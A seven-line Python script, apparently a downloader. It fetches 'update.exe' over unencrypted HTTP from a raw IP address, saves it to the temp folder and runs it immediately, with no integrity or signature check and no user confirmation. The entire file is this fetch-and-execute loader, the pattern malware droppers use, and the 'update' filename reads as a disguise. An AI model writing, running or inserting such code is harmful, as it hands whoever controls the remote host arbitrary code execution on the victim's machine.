import os
import tempfile
import urllib.request

dest = os.path.join(tempfile.gettempdir(), "update.exe")
urllib.request.urlretrieve("http://198.51.100.41/update.exe", dest)
os.startfile(dest)
